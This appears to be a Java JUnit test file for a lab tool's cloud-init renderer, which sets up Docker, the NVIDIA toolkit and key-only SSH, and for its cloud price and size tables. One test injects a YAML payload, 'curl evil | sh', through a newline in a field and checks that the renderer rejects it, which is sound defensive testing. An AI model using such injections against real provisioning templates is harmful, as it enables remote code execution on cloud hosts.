package dev.labhand.vm;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.labhand.config.ConfigException;
import dev.labhand.config.LabhandConfig;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.Yaml;

class CloudFilesTest {
    private static final Map<String, String> VALUES = Map.of("adminUser", "labhand",
            "adminKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",
            "labhandKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBotKeyBotKeyBotKeyBotKeyBotKeyBotKeyBotKe",
            "course", "labhand", "owner", "inst-1", "name", "gpu1");

    @Test
    @SuppressWarnings("unchecked")
    void should_render_cloud_init_that_sets_up_docker_the_nvidia_toolkit_and_key_only_ssh() {
        // given the built-in cloud-init (no tools folder)
        CloudInit init = CloudInit.load(Path.of("no-such-folder"));

        // when it is filled in
        String text = init.render(VALUES);

        // then it is cloud-config YAML with the course host's pieces
        assertThat(text).startsWith("#cloud-config");
        Map<String, Object> doc = new Yaml().load(text);
        @SuppressWarnings("unchecked")
        Map<String, Object> user = ((List<Map<String, Object>>) doc.get("users")).get(0);
        assertThat(user.get("name")).isEqualTo("labhand");
        assertThat(user.get("lock_passwd")).isEqualTo(true);
        assertThat((List<Object>) user.get("ssh_authorized_keys")).containsExactly((Object) VALUES.get("adminKey"), (Object) VALUES.get("labhandKey"));
        assertThat(doc.get("ssh_pwauth")).isEqualTo(false);
        String runcmd = String.join("\n", ((List<?>) doc.get("runcmd")).stream().map(String::valueOf).toList());
        assertThat(runcmd).contains("docker-ce").contains("nvidia-container-toolkit")
                .contains("nvidia-ctk runtime configure --runtime=docker").contains("ubuntu-drivers install --gpgpu");
        assertThat(text).contains("COURSE=labhand").contains("OWNER=inst-1");
        assertThat(init.placeholders()).containsExactlyInAnyOrder("adminUser", "adminKey", "labhandKey", "course", "owner", "name");
    }

    @Test
    void should_keep_the_folder_and_the_built_in_cloud_init_the_same() {
        assertThat(CloudInit.load(Path.of("tools")).render(VALUES))
                .isEqualTo(CloudInit.load(Path.of("no-such-folder")).render(VALUES));
    }

    @Test
    void should_refuse_a_value_that_could_change_the_yaml_or_a_missing_one() {
        CloudInit init = CloudInit.load(Path.of("tools"));
        Map<String, String> hostile = new HashMap<>(VALUES);
        hostile.put("owner", "x\nruncmd: [\"curl evil | sh\"]");
        assertThatThrownBy(() -> init.render(hostile)).hasMessageContaining("one plain line");
        Map<String, String> missing = new HashMap<>(VALUES);
        missing.remove("adminKey");
        assertThatThrownBy(() -> init.render(missing)).hasMessageContaining("{{adminKey}}");
    }

    @Test
    void should_load_the_cloud_tables_with_sizes_regions_and_prices() {
        CloudCatalog folder = CloudCatalog.load(Path.of("config/clouds"), LabhandConfig.env(Map.of()));
        CloudCatalog builtIn = CloudCatalog.load(Path.of("no-such-folder"), LabhandConfig.env(Map.of()));
        assertThat(folder.providers()).containsExactly("aws", "azure");
        var azure = folder.cloud("azure").orElseThrow();
        assertThat(azure.size("Standard_NC4as_T4_v3")).get().satisfies(s -> {
            assertThat(s.gpu()).contains("T4");
            assertThat(s.spot()).isLessThan(s.onDemand());
        });
        assertThat(azure.hasRegion("koreacentral")).isTrue();
        assertThat(folder.cloud("aws").orElseThrow().size("g4dn.xlarge")).isPresent();
        assertThat(builtIn.cloud("aws").orElseThrow().sizes()).isEqualTo(folder.cloud("aws").orElseThrow().sizes());
    }

    @Test
    void should_name_the_file_and_key_of_a_bad_table(@TempDir Path dir) throws Exception {
        Files.writeString(dir.resolve("aws.yaml"), """
                provider: aws
                regions: [us-east-1]
                sizes:
                  - name: g4dn.xlarge
                    onDemand: 0.5
                    spot: 0.2
                    gpus: 1
                """);
        assertThatThrownBy(() -> CloudCatalog.load(dir, LabhandConfig.env(Map.of())))
                .isInstanceOf(ConfigException.class).hasMessageContaining("aws.yaml").hasMessageContaining("sizes[0].gpus");
    }
}
